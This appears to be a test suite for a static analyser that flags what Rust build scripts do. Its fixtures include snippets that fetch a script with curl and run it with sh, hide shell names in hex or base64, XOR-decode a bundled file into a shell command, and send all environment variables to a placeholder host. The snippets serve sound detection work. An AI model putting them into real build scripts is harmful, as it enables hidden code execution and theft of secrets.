import fc from "fast-check"
import { beforeAll, describe, expect, it } from "vitest"
import { readPackaged } from "../../io/packaged.ts"
import type { Analyser } from "../language.ts"
import { type Shown, shownBy } from "../shown-fixture.ts"
import { rust } from "./index.ts"

let analyser: Analyser
beforeAll(async () => {
  analyser = await rust.load(readPackaged)
})
const show = (text: string, files: readonly string[] = []): Shown => shownBy(analyser, text, { path: "crate/build.rs", files })
const acts = (body: string, files: readonly string[] = []): readonly string[] => show(`fn main() {\n${body}\n}`, files).acts

describe("rust", () => {
  it("claims sources by their extension", () => {
    expect(["build.rs", "src/lib.rs", "a.py"].map((path) => rust.claims(path, ""))).toEqual([true, true, false])
  })

  it.each([
    [
      "let s = [0x73u8, 0x68].iter().map(|b| *b as char).collect::<String>(); std::process::Command::new(s).spawn();",
      ['2 runs program "sh"'],
    ],
    ['use std::process::Command; Command::new("cc").arg("-c").args(&["a", "b"]).status();', ['2 runs program "cc" with "-c", "a", "b"']],
    [
      'let mut c = std::process::Command::new("sh"); c.arg("-c"); c.arg("id"); c.spawn()?;',
      ['2 runs program "sh" with "-c", "id"', '2 runs text shell "id"'],
    ],
    [
      'println!("cargo:rustc-link-lib={}", "foo"); println!("cargo::rustc-link-arg=x.o"); println!("cargo:rerun-if-changed=a");',
      ['2 runs object "foo"', '2 runs object "x.o"'],
    ],
    ['std::fs::write(format!("{}/x", std::env::var("OUT_DIR").unwrap()), "y");', ['2 writes $OUT_DIR + "/x" "y"']],
    [
      'let t = dir().join("a.sh"); Command::new("curl").args(["-fsSL", "-o"]).arg(&t).arg("https://a.b/c").status(); Command::new("sh").arg(&t).spawn();',
      [
        '2 runs program "curl" with "-fsSL", "-o", ? + "/a.sh", "https://a.b/c"',
        '2 connects "https://a.b/c"',
        '2 writes ? + "/a.sh" fetched<"https://a.b/c">',
        '2 runs program "sh" with ? + "/a.sh"',
        '2 runs module shell ? + "/a.sh"',
      ],
    ],
    ['use std::fs; fs::remove_file("x"); fs::copy("a", "b");', ['2 deletes "x"', '2 reads "a"', '2 writes "b" file<"a">']],
    ['cc::Build::new().file("a.c").object("b.o").compile("a");', ['2 runs source "a.c"', '2 runs object "b.o"']],
    ['unsafe { libloading::Library::new("x.so") };', ['2 runs object "x.so"']],
    ['include!(concat!(env!("OUT_DIR"), "/x.rs"));', ['2 runs source file<$OUT_DIR + "/x.rs">']],
    [
      'let mut s = String::new(); std::fs::File::open("q")?.read_to_string(&mut s)?; s.parse::<TokenStream>();',
      ['2 reads "q"', '2 runs text rust ? + file<"q">'],
    ],
    ['if let Some(x) = std::env::var_os("X") { std::process::Command::new(x).spawn(); }', ["2 runs program $X"]],
    [
      'match f() { Ok(p) => std::process::Command::new("a").spawn(), _ => std::process::Command::new("b").spawn() };',
      ['2 runs program "a"', '2 runs program "b"'],
    ],
  ])("acts: %s", (body, expected) => expect(acts(body)).toEqual(expected))

  it("follows content of a file through what it is translated by", () => {
    const body =
      'let data = include_bytes!("tests/a.bin");\nlet v: Vec<u8> = data.iter().map(|b| b ^ 0x42).collect();\nstd::process::Command::new("sh").arg("-c").arg(String::from_utf8(v).unwrap()).spawn();'
    expect(acts(body)).toEqual([
      '2 reads "crate/tests/a.bin"',
      '4 runs program "sh" with "-c", translate:^(file<"crate/tests/a.bin">)',
      '4 runs text shell translate:^(file<"crate/tests/a.bin">)',
    ])
  })

  it("tells digits that are formatted from characters", () => {
    const wrote = (what: string) =>
      acts(`let raw = std::fs::read("a.bin")?; let mut w = std::io::BufWriter::new(std::fs::File::create("t.rs")?); ${what}`).at(-1)
    expect(wrote('for b in raw.iter() { write!(w, "{},", b ^ 1)?; }')).not.toContain("file<")
    expect(wrote('for b in raw.iter() { write!(w, "{}", (b ^ 1) as char)?; }')).toContain('decode:chr(translate:^(file<"a.bin">))')
    expect(wrote("w.write_all(&raw)?;")).toBe('2 writes "t.rs" file<"a.bin">')
  })

  it("computes constants, and says that they were hidden", () => {
    const command = (of: string): readonly string[] => acts(`std::process::Command::new(${of}).spawn();`)
    expect(command('std::str::from_utf8(&base64::decode("c2g=").unwrap()).unwrap()')).toEqual([
      '2 runs program decode:base64.decode("c2g=")',
    ])
    expect(command("String::from_utf8(vec![0x62, 0x61, 0x73, 0x68]).unwrap()")).toEqual(['2 runs program decode:String.from_utf8("bash")'])
    expect(command('concat!("b", "ash")')).toEqual(['2 runs program "bash"'])
    expect(command('"\\x62ash"')).toEqual(['2 runs program "bash"'])
  })

  it("looks at functions that nothing calls, and into modules of the release", () => {
    expect(show('mod x;\nimpl A { fn go(&self) { std::fs::remove_file("z"); } }', ["crate/x.rs"]).acts).toEqual([
      '1 runs module "crate/x.rs"',
      '2 deletes "z"',
    ])
  })

  it("says which lines are no Rust, and goes on", () => {
    const { acts: found, blind } = show('fn a() {}\n?? )) ]]\nfn b() { std::fs::remove_file("z"); }\n')
    expect(blind.some((line) => /^[12] .*syntax error/.test(line))).toBe(true)
    expect(found).toEqual(['3 deletes "z"'])
  })

  it("never throws, and stays in the text", () => {
    const word = fc.constantFrom(
      "fn f(",
      ")",
      "{",
      "}",
      "let x =",
      ";",
      '"a"',
      "Command::new(",
      ".arg(",
      "println!(",
      "match x {",
      "=>",
      "|a|",
      "^",
      "&",
      "use a::{",
      "impl A {",
      "\n",
      "r#",
      "'",
      "if let Some(",
      "..",
      "\u00e9",
      "\0",
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: "binary-ascii" }),
          fc.array(word).map((words) => words.join(" ")),
        ),
        (text) => {
          const lines = text.split("\n").length
          for (const {
            lines: [first, last],
          } of show(text).places)
            expect(first >= 1 && first <= last && last <= lines).toBe(true)
        },
      ),
      { numRuns: 300 },
    )
    for (const text of ["(".repeat(30_000), `fn a() { ${"f(".repeat(5000)}1${")".repeat(5000)} }`, `fn a() { x${".b()".repeat(5000)} }`])
      expect(() => show(text)).not.toThrow()
  })

  it("sees the same whatever comments stand between", () => {
    const program = ["fn main() {", 'let x = "id";', "f(x);", "}", "fn f(a: &str) { std::process::Command::new(a).spawn(); }"]
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^[ -~]*$/), { minLength: 5, maxLength: 5 }), (comments) => {
        expect(show(program.map((line, index) => `${line} // ${comments[index]}`).join("\n")).acts).toEqual(show(program.join("\n")).acts)
      }),
    )
  })

  it.each([
    ['let s = "a"; std::fs::read(format!("{s}{{x}}.{}", "toml"));', ['2 reads "a{x}.toml"']],
    ['std::fs::read(concat!(".", stringify!(cargo)));', ['2 reads ".cargo"']],
    ['std::fs::read(std::env::var("A").ok().or_else(|| std::env::var("B").ok()).unwrap());', ["2 reads ($A | $B)"]],
    ['std::fs::read(x.map_or("a", |b| "c"));', ['2 reads ("a" | "c")']],
  ])("knows what it reads: %s", (body, expected) => expect(acts(body)).toEqual(expected))

  const what = "std::env::vars()"
  it.each([
    `std::net::TcpStream::connect(("h.example.org", 80)).unwrap().write_all(${what});`,
    `write!(std::net::TcpStream::connect("h.example.org:80").unwrap(), "{}", ${what});`,
    `std::net::UdpSocket::bind("0.0.0.0:0").unwrap().send_to(${what}, ("h.example.org", 80));`,
    `ureq::post("h.example.org:80").set("a", &b).send_string(${what});`,
    `reqwest::blocking::Client::new().post("h.example.org:80").header("a", b).body(${what}).send();`,
    `let mut e = curl::easy::Easy::new(); e.url("h.example.org:80"); e.post_fields_copy(${what});`,
  ])("knows what it sends: %s", (body) =>
    expect(acts(body).filter((act) => act.includes("sends"))).toEqual([expect.stringMatching(/^2 connects "h.example.org:80" sends /)]),
  )

  it.each(["h.write(a.as_bytes());", "cell.with(|c| c.set(a));", "std::ptr::write(p, a);", "map.set(a);", "tx.send(a);"])(
    "takes no method of anything for a connection (foldhash): %s",
    (body) => expect(acts(`let a = x(); ${body}`)).toEqual([]),
  )
})
